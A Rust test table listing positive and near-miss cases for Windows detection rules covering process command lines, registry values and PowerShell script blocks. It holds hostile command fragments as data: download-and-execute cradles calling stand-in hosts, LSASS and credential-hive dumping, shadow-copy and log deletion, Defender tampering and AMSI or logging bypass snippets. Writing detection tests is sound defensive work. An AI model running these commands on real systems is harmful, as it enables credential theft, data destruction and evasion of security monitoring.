//! What each built-in rule must find and what it must not: the table.
//!
//! Lines are (rule, what, must it hit). Near misses are what honest programs do that looks like it,
//! or what the rule leaves out on purpose.

/// A line about a process: its rule, parent, program and command line. Programs and parents without
/// a folder are those of `System32`. Each is told by Sysmon 1 and by Security 4688.
pub type Process = (&'static str, bool, &'static str, &'static str, &'static str);

/// A line about a registry value that is set: its rule, the value as Sysmon names it, its data as
/// Sysmon prints them. Each is told by Sysmon 13 and by Security 4657.
pub type Value = (&'static str, bool, &'static str, &'static str);

/// A line about a script block: its rule, and the script.
pub type Script = (&'static str, bool, &'static str);

const OFFICE: &str = "proc_creation_win_office_spawns_shell";
const CRADLE: &str = "proc_creation_win_powershell_download_cradle";
const ENCODED: &str = "proc_creation_win_powershell_encoded_command";
const COMSVCS: &str = "proc_creation_win_rundll32_comsvcs_minidump";
const SCHTASKS: &str = "proc_creation_win_schtasks_script_host";
const SHADOWS: &str = "proc_creation_win_shadow_copies_deleted";
const DEFENDER: &str = "proc_creation_win_defender_tampering";
const SERVICE: &str = "proc_creation_win_security_service_stopped";
const LOGS: &str = "proc_creation_win_eventlog_cleared_or_disabled";
const HIVES: &str = "proc_creation_win_registry_hive_saved";
const NTDS: &str = "proc_creation_win_ntds_copied";
const CERTUTIL: &str = "proc_creation_win_certutil_download_or_decode";
const BITSADMIN: &str = "proc_creation_win_bitsadmin_transfer";
const MSHTA: &str = "proc_creation_win_mshta_script_or_remote";
const REGSVR32: &str = "proc_creation_win_regsvr32_scriptlet_or_remote";
const RUNDLL32: &str = "proc_creation_win_rundll32_script_or_proxy";
const WMIC: &str = "proc_creation_win_wmic_process_remote_or_script";
const WMI: &str = "proc_creation_win_wmiprvse_spawned_shell";
const WINRM: &str = "proc_creation_win_winrm_child_process";
const RECOVERY: &str = "proc_creation_win_recovery_disabled";

const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";

pub const PROCESSES: &[Process] = &[
    (OFFICE, true, WORD, "cmd.exe", "cmd /c echo 1"),
    (OFFICE, true, r"C:\x\EXCEL.EXE", "mshta.exe", "mshta.exe"),
    (OFFICE, false, WORD, "splwow64.exe", "splwow64.exe 8192"),
    (OFFICE, false, "explorer.exe", "cmd.exe", "cmd.exe"),
    (OFFICE, false, "cmd.exe", WORD, "winword.exe"),
    (CRADLE, true, "cmd.exe", "powershell.exe", "powershell IEX (iwr http://a.example/x)"),
    (CRADLE, true, "cmd.exe", "cmd.exe", "cmd /c powershell irm http://a.example/x | iex"),
    (
        CRADLE,
        false,
        "cmd.exe",
        "powershell.exe",
        "powershell Invoke-WebRequest http://a -OutFile x",
    ),
    (CRADLE, false, "cmd.exe", "powershell.exe", "powershell Invoke-Expression $env:START"),
    (ENCODED, true, "cmd.exe", "powershell.exe", "powershell -enc SQBFAFgA"),
    (ENCODED, true, "cmd.exe", "powershell.exe", "powershell.exe /ec SQBFAFgA"),
    (ENCODED, true, "cmd.exe", "powershell.exe", "powershell -EncodedCommand SQBFAFgA"),
    (ENCODED, false, "cmd.exe", "powershell.exe", "powershell -ExecutionPolicy Bypass -File a.ps1"),
    (ENCODED, false, "cmd.exe", "powershell.exe", "powershell Out-File -Encoding utf8 a.txt"),
    (ENCODED, false, "cmd.exe", "find.exe", "find -e x"),
    (COMSVCS, true, "cmd.exe", "rundll32.exe", r"rundll32 comsvcs.dll, MiniDump 784 C:\a full"),
    (COMSVCS, true, "cmd.exe", "cmd.exe", r"cmd /c rundll32 C:\x\comsvcs.dll #+24 784 a full"),
    (COMSVCS, false, "cmd.exe", "rundll32.exe", "rundll32 comsvcs.dll,DllRegisterServer"),
    (COMSVCS, false, "cmd.exe", "rundll32.exe", "rundll32 dbghelp.dll, MiniDump 1"),
    (SCHTASKS, true, "cmd.exe", "schtasks.exe", r#"schtasks /create /tn a /tr "powershell -f a""#),
    (SCHTASKS, true, "cmd.exe", "schtasks.exe", "schtasks -CREATE /tn a /tr mshta.exe"),
    (SCHTASKS, false, "cmd.exe", "schtasks.exe", r"schtasks /create /tn a /tr C:\App\a.exe"),
    (SCHTASKS, false, "cmd.exe", "schtasks.exe", "schtasks /query /tn powershell"),
    (SHADOWS, true, "cmd.exe", "vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet"),
    (
        SHADOWS,
        true,
        "cmd.exe",
        "vssadmin.exe",
        "vssadmin resize shadowstorage /for=c: /maxsize=1gb",
    ),
    (SHADOWS, true, "cmd.exe", r"wbem\WMIC.exe", "wmic shadowcopy delete"),
    (SHADOWS, true, "cmd.exe", "wbadmin.exe", "wbadmin delete catalog -quiet"),
    (SHADOWS, true, "cmd.exe", "powershell.exe", "gwmi Win32_ShadowCopy | % {$_.Delete()}"),
    (SHADOWS, false, "cmd.exe", "vssadmin.exe", "vssadmin list shadows"),
    (SHADOWS, false, "cmd.exe", "wbadmin.exe", "wbadmin start backup -backupTarget:e:"),
    (
        DEFENDER,
        true,
        "cmd.exe",
        "powershell.exe",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
    ),
    (DEFENDER, true, "cmd.exe", "powershell.exe", "Set-MpPreference -DisableIOAVProtection:1"),
    (
        DEFENDER,
        true,
        "cmd.exe",
        "cmd.exe",
        r"powershell Add-MpPreference -Force -ExclusionPath C:\",
    ),
    (DEFENDER, true, "cmd.exe", "MpCmdRun.exe", "MpCmdRun.exe -RemoveDefinitions -All"),
    (DEFENDER, true, "cmd.exe", "powershell.exe", "Uninstall-WindowsFeature Windows-Defender-GUI"),
    (
        DEFENDER,
        false,
        "cmd.exe",
        "powershell.exe",
        "Set-MpPreference -DisableRealtimeMonitoring $false",
    ),
    (DEFENDER, false, "cmd.exe", "powershell.exe", "Set-MpPreference -DisableIOAVProtection 0"),
    (DEFENDER, false, "cmd.exe", "powershell.exe", r"Remove-MpPreference -ExclusionPath C:\Tools"),
    (
        DEFENDER,
        false,
        "cmd.exe",
        "powershell.exe",
        "Get-MpPreference | select DisableScriptScanning",
    ),
    (DEFENDER, false, "cmd.exe", "MpCmdRun.exe", "MpCmdRun.exe -SignatureUpdate"),
    (SERVICE, true, "cmd.exe", "sc.exe", "sc stop WinDefend"),
    (SERVICE, true, "cmd.exe", "sc.exe", "sc config Sysmon64 start= disabled"),
    (SERVICE, true, "cmd.exe", "net1.exe", "net1 stop eventlog /y"),
    (SERVICE, true, "cmd.exe", "powershell.exe", "Stop-Service -Force -Name EventLog"),
    (SERVICE, true, "cmd.exe", "powershell.exe", "Set-Service WinDefend -StartupType Disabled"),
    (SERVICE, false, "cmd.exe", "sc.exe", "sc query WinDefend"),
    (SERVICE, false, "cmd.exe", "net.exe", "net stop spooler"),
    (SERVICE, false, "cmd.exe", "notepad.exe", "notepad stop WinDefend .txt"),
    (LOGS, true, "cmd.exe", "wevtutil.exe", "wevtutil cl Security"),
    (
        LOGS,
        true,
        "cmd.exe",
        "cmd.exe",
        r#"cmd /c for /F %1 in ('wevtutil el') do wevtutil.exe cl "%1""#,
    ),
    (LOGS, true, "cmd.exe", "wevtutil.exe", "wevtutil set-log System -enabled:false"),
    (LOGS, true, "cmd.exe", "powershell.exe", "powershell Clear-EventLog -LogName Security"),
    (LOGS, true, "cmd.exe", r"wbem\WMIC.exe", "wmic nteventlog where filename='s' cleareventlog"),
    (LOGS, false, "cmd.exe", "wevtutil.exe", "wevtutil qe Security /c:5"),
    (LOGS, false, "cmd.exe", "wevtutil.exe", "wevtutil sl Security /ms:1073741824"),
    (LOGS, false, "cmd.exe", "powershell.exe", "powershell Get-EventLog -LogName Security"),
    (HIVES, true, "cmd.exe", "reg.exe", r"reg save HKLM\SAM C:\Windows\Temp\s"),
    (HIVES, true, "cmd.exe", "reg.exe", r#"reg.exe export "HKEY_LOCAL_MACHINE\security" a.reg"#),
    (HIVES, true, "cmd.exe", "reg.exe", r"reg save hklm\system s.hiv /y"),
    (
        HIVES,
        true,
        "cmd.exe",
        "esentutl.exe",
        r"esentutl /y /vss C:\Windows\System32\config\SAM /d s",
    ),
    (
        HIVES,
        false,
        "cmd.exe",
        "reg.exe",
        r"reg export HKLM\SYSTEM\CurrentControlSet\Services a.reg",
    ),
    (HIVES, false, "cmd.exe", "reg.exe", r"reg save HKLM\SOFTWARE s.hiv"),
    (HIVES, false, "cmd.exe", "reg.exe", r"reg query HKLM\SAM"),
    (HIVES, false, "cmd.exe", "icacls.exe", r"icacls C:\Windows\System32\config\SAM"),
    (NTDS, true, "cmd.exe", "ntdsutil.exe", r#"ntdsutil "ac i ntds" "ifm" "create full c:\t" q q"#),
    (NTDS, true, "cmd.exe", "ntdsutil.exe", r"ntdsutil snapshot create quit quit"),
    (
        NTDS,
        true,
        "cmd.exe",
        "cmd.exe",
        r"cmd /c copy \\?\GLOBALROOT\Device\X\Windows\NTDS\ntds.dit a",
    ),
    (NTDS, true, "cmd.exe", "esentutl.exe", r"esentutl /y /vss C:\Windows\NTDS\ntds.dit /d c:\n"),
    (NTDS, false, "cmd.exe", "ntdsutil.exe", "ntdsutil roles connections quit quit"),
    (NTDS, false, "cmd.exe", "cmd.exe", r"cmd /c dir C:\Windows\NTDS\ntds.dit"),
    (
        CERTUTIL,
        true,
        "cmd.exe",
        "certutil.exe",
        "certutil -urlcache -split -f http://a.example/b b",
    ),
    (CERTUTIL, true, "cmd.exe", "certutil.exe", "certutil /decode a.txt a.exe"),
    (CERTUTIL, true, "cmd.exe", "certutil.exe", "certutil -f -encodehex a.exe a.txt"),
    (CERTUTIL, false, "cmd.exe", "certutil.exe", "certutil -hashfile a.exe SHA256"),
    (CERTUTIL, false, "cmd.exe", "certutil.exe", "certutil -urlcache * delete"),
    (CERTUTIL, false, "cmd.exe", "openssl.exe", "openssl -decode http:"),
    (BITSADMIN, true, "cmd.exe", "bitsadmin.exe", "bitsadmin /transfer j http://a.example/x C:\\x"),
    (BITSADMIN, true, "cmd.exe", "bitsadmin.exe", "bitsadmin -SetNotifyCmdLine j cmd.exe NUL"),
    (BITSADMIN, false, "cmd.exe", "bitsadmin.exe", "bitsadmin /list /allusers"),
    (BITSADMIN, false, "cmd.exe", "cmd.exe", "cmd /c echo bitsadmin /transfer"),
    (MSHTA, true, "cmd.exe", "mshta.exe", "mshta vbscript:Close(Execute(\"x\"))"),
    (MSHTA, true, "explorer.exe", "mshta.exe", r"mshta.exe \\files.example\a\b.hta"),
    (MSHTA, false, "explorer.exe", "mshta.exe", r#""mshta.exe" "C:\App\setup.hta" {1E460BD7}"#),
    (MSHTA, false, "explorer.exe", "chrome.exe", "chrome http://www.example.com"),
    (
        REGSVR32,
        true,
        "cmd.exe",
        "regsvr32.exe",
        "regsvr32 /s /n /u /i:http://a.example/b scrobj.dll",
    ),
    (REGSVR32, true, "cmd.exe", "regsvr32.exe", r"regsvr32 /s \\files.example\a\b.dll"),
    (REGSVR32, false, "cmd.exe", "regsvr32.exe", r"regsvr32 /s C:\App\a.dll"),
    (REGSVR32, false, "cmd.exe", "regsvr32.exe", r#"regsvr32 /s /i:user "C:\App\a.ax""#),
    (
        RUNDLL32,
        true,
        "cmd.exe",
        "rundll32.exe",
        r"rundll32 javascript:..\mshtml,RunHTMLApplication",
    ),
    (RUNDLL32, true, "cmd.exe", "rundll32.exe", r"rundll32 zipfldr.dll,RouteTheCall C:\a.exe"),
    (RUNDLL32, true, "cmd.exe", "rundll32.exe", r"rundll32.exe \\files.example\a\b.dll,Start"),
    (
        RUNDLL32,
        false,
        "explorer.exe",
        "rundll32.exe",
        "rundll32.exe shell32.dll,Control_RunDLL main.cpl",
    ),
    (
        RUNDLL32,
        false,
        "cmd.exe",
        "rundll32.exe",
        r"rundll32 printui.dll,PrintUIEntry /in /n \\srv\p1",
    ),
    (RUNDLL32, false, "cmd.exe", "cmd.exe", "cmd /c echo RouteTheCall"),
    (WMIC, true, "cmd.exe", r"wbem\WMIC.exe", "wmic process call create calc.exe"),
    (WMIC, true, "cmd.exe", r"wbem\WMIC.exe", "wmic /node:SRV-FS02 os get caption"),
    (WMIC, true, "cmd.exe", r"wbem\WMIC.exe", "wmic os get /format:http://a.example/a.xsl"),
    (WMIC, false, "cmd.exe", r"wbem\WMIC.exe", "wmic process list brief /format:csv"),
    (WMIC, false, "cmd.exe", r"wbem\WMIC.exe", "wmic /node:localhost service get state"),
    (WMIC, false, "cmd.exe", r"wbem\WMIC.exe", "wmic bios get serialnumber"),
    (
        WMI,
        true,
        r"wbem\WmiPrvSE.exe",
        "cmd.exe",
        r"cmd.exe /Q /c dir 1> \\127.0.0.1\ADMIN$\__1 2>&1",
    ),
    (WMI, true, r"wbem\WmiPrvSE.exe", "powershell.exe", "powershell -File a.ps1"),
    (WMI, false, r"wbem\WmiPrvSE.exe", "msiexec.exe", "msiexec /i a.msi"),
    (WMI, false, "svchost.exe", "cmd.exe", "cmd.exe"),
    (WINRM, true, "wsmprovhost.exe", "whoami.exe", "whoami"),
    (WINRM, true, "winrshost.exe", "cmd.exe", "cmd /C ipconfig"),
    (WINRM, false, "wsmprovhost.exe", "conhost.exe", "conhost.exe 0xffffffff -ForceV1"),
    (WINRM, false, "svchost.exe", "wsmprovhost.exe", "wsmprovhost.exe -Embedding"),
    (RECOVERY, true, "cmd.exe", "bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
    (RECOVERY, true, "cmd.exe", "bcdedit.exe", "bcdedit /set bootstatuspolicy IgnoreAllFailures"),
    (RECOVERY, true, "cmd.exe", "ReAgentc.exe", "reagentc.exe /disable"),
    (RECOVERY, false, "cmd.exe", "bcdedit.exe", "bcdedit /set {default} recoveryenabled Yes"),
    (RECOVERY, false, "cmd.exe", "bcdedit.exe", "bcdedit /enum all"),
    (RECOVERY, false, "cmd.exe", "ReAgentc.exe", "reagentc /info"),
];

/// A tool under another name: rule, its original name, program and command line. Sysmon knows it
/// by the version resource; the Security log does not have that, and is silent.
pub const RENAMED: &[(&str, &str, &str, &str)] = &[
    (OFFICE, "Cmd.Exe", r"C:\x\c.exe", "c.exe"),
    (ENCODED, "PowerShell.EXE", r"C:\x\p.exe", "p -enc SQBFAFgA"),
    (SCHTASKS, "schtasks.exe", r"C:\x\s.exe", "s /create /tn a /tr mshta.exe"),
    (SERVICE, "sc.exe", r"C:\x\s.exe", "s stop WinDefend"),
    (CERTUTIL, "CertUtil.exe", r"C:\x\c.exe", "c -decode a b"),
    (BITSADMIN, "bitsadmin.exe", r"C:\x\b.exe", "b /transfer j http://a.example C:\\a"),
    (MSHTA, "MSHTA.EXE", r"C:\x\m.exe", "m vbscript:Close()"),
    (REGSVR32, "REGSVR32.EXE", r"C:\x\r.exe", "r /s /i:http://a.example/a scrobj.dll"),
    (RUNDLL32, "RUNDLL32.EXE", r"C:\x\r.exe", r"r zipfldr.dll,RouteTheCall a"),
    (WMIC, "wmic.exe", r"C:\x\w.exe", "w process call create a"),
    (WMI, "PowerShell.EXE", r"C:\x\p.exe", "p -f a.ps1"),
];

const AMSI: &str = "registry_set_amsi_provider_registered";
const RUN_KEY: &str = "registry_set_run_key_script_or_user_path";
const PROTECTION: &str = "registry_set_defender_protection_disabled";
const EXCLUSION: &str = "registry_set_defender_exclusion";
const LOGGING: &str = "registry_event_powershell_logging_disabled";
const DESKTOP: &str = "registry_set_remote_desktop_opened";

const ZERO: &str = "DWORD (0x00000000)";
const ONE: &str = "DWORD (0x00000001)";

pub const VALUES: &[Value] = &[
    (AMSI, true, r"HKLM\SOFTWARE\Microsoft\AMSI\Providers\{6D7A2B10}\(Default)", "x"),
    (AMSI, false, r"HKLM\SOFTWARE\Microsoft\AMSI\FeatureBits", ONE),
    (RUN_KEY, true, r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\a", "mshta.exe http://a"),
    (
        RUN_KEY,
        true,
        r"HKU\S-1-5-21-1-2-3-1001\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce\b",
        r"C:\Users\Public\b.exe",
    ),
    (
        RUN_KEY,
        false,
        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\a",
        r"C:\Program Files\A\a.exe",
    ),
    (RUN_KEY, false, r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Runtime\a", "mshta.exe"),
    (
        PROTECTION,
        true,
        r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware",
        ONE,
    ),
    (
        PROTECTION,
        true,
        r"HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableScriptScanning",
        ONE,
    ),
    (PROTECTION, true, r"HKLM\SOFTWARE\Microsoft\Windows Defender\Features\TamperProtection", ZERO),
    (
        PROTECTION,
        false,
        r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware",
        ZERO,
    ),
    (
        PROTECTION,
        false,
        r"HKLM\SOFTWARE\Microsoft\Windows Defender\Features\TamperProtection",
        "DWORD (0x00000005)",
    ),
    (PROTECTION, false, r"HKLM\SOFTWARE\Contoso\DisableAntiSpyware", ONE),
    (
        EXCLUSION,
        true,
        r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Windows\Temp",
        ZERO,
    ),
    (
        EXCLUSION,
        true,
        r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Exclusions\Extensions\exe",
        "0",
    ),
    (EXCLUSION, false, r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Count", ONE),
    (EXCLUSION, false, r"HKLM\SOFTWARE\Contoso\Exclusions\Paths\a", "x"),
    (
        LOGGING,
        true,
        r"HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging\EnableScriptBlockLogging",
        ZERO,
    ),
    (
        LOGGING,
        true,
        r"HKLM\SOFTWARE\Policies\Microsoft\PowerShellCore\Transcription\EnableTranscripting",
        ZERO,
    ),
    (
        LOGGING,
        false,
        r"HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging\EnableScriptBlockLogging",
        ONE,
    ),
    (LOGGING, false, r"HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\EnableScripts", ZERO),
    (
        DESKTOP,
        true,
        r"HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections",
        ZERO,
    ),
    (DESKTOP, true, r"HKLM\System\CurrentControlSet\Control\Lsa\DisableRestrictedAdmin", ZERO),
    (
        DESKTOP,
        false,
        r"HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections",
        ONE,
    ),
    (
        DESKTOP,
        false,
        r"HKLM\System\CurrentControlSet\Control\Terminal Server\fSingleSessionPerUser",
        ZERO,
    ),
];

const AMSI_REMOVED: &str = "registry_delete_amsi_provider_removed";

/// A value or key that goes: told by Sysmon 12 as a value, and by Security 4657.
pub const DELETED: &[(&str, bool, &str)] = &[
    (
        AMSI_REMOVED,
        true,
        r"HKLM\SOFTWARE\Microsoft\AMSI\Providers\{2781761E-28E0-4109-99FE-B9D127C57AFE}",
    ),
    (
        AMSI_REMOVED,
        false,
        r"HKLM\SOFTWARE\Microsoft\AMSI\Providers\{6D7A2B10-93C4-4F0E-8B5D-1E7C0A94F233}",
    ),
    (AMSI_REMOVED, false, r"HKLM\SOFTWARE\Microsoft\AMSI\FeatureBits"),
    (
        LOGGING,
        true,
        r"HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ModuleLogging\EnableModuleLogging",
    ),
    (LOGGING, false, r"HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ExecutionPolicy"),
    (AMSI, false, r"HKLM\SOFTWARE\Microsoft\AMSI\Providers\{6D7A2B10}\(Default)"),
    (DESKTOP, false, r"HKLM\System\CurrentControlSet\Control\Lsa\DisableRestrictedAdmin"),
];

const SCRIPT_AMSI: &str = "posh_ps_amsi_bypass_strings";
const SCRIPT_CRADLE: &str = "posh_ps_download_cradle";
const SCRIPT_DEFENDER: &str = "posh_ps_defender_tampering";
const SCRIPT_LOGGING: &str = "posh_ps_script_block_logging_bypass";

pub const SCRIPTS: &[Script] = &[
    (SCRIPT_AMSI, true, "$a.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"),
    (SCRIPT_AMSI, true, "$p = GetProcAddress 'AmsiScanBuffer'; [K]::VirtualProtect($p, 5, 0x40)"),
    (SCRIPT_AMSI, false, "Get-Item HKLM:\\SOFTWARE\\Microsoft\\AMSI\\Providers"),
    (SCRIPT_AMSI, false, "[Native]::VirtualProtect($page, 4096)"),
    (SCRIPT_CRADLE, true, "Invoke-RestMethod http://a.example/b | iex"),
    (SCRIPT_CRADLE, true, "IEX (New-Object Net.WebClient).DownloadString('http://a.example')"),
    (SCRIPT_CRADLE, false, "Invoke-WebRequest http://a.example/b -OutFile b.zip"),
    (SCRIPT_CRADLE, false, "Invoke-Expression (Get-Content .\\local.ps1 -Raw)"),
    (SCRIPT_DEFENDER, true, "Set-MpPreference -DisableRealtimeMonitoring $true"),
    (SCRIPT_DEFENDER, true, "add-mppreference -exclusionpath 'C:\\'"),
    (SCRIPT_DEFENDER, false, "Set-MpPreference -DisableRealtimeMonitoring $false"),
    (SCRIPT_DEFENDER, false, "Get-MpPreference | Select-Object ExclusionPath"),
    (SCRIPT_LOGGING, true, "$s = [Ref].Assembly.GetField('cachedGroupPolicySettings','NonPublic')"),
    (
        SCRIPT_LOGGING,
        true,
        "[ScriptBlock].GetField('signatures','NonPublic,Static').SetValue($n,$h)",
    ),
    (
        SCRIPT_LOGGING,
        true,
        "$p=[Ref].Assembly.GetType('x.PSEtwLogProvider'); $p.GetField('etwProvider')",
    ),
    (
        SCRIPT_LOGGING,
        false,
        "Get-ItemProperty HKLM:\\...\\ScriptBlockLogging EnableScriptBlockLogging",
    ),
    (SCRIPT_LOGGING, false, "Test-FileCatalog signatures; [ScriptBlock]::Create('x')"),
];
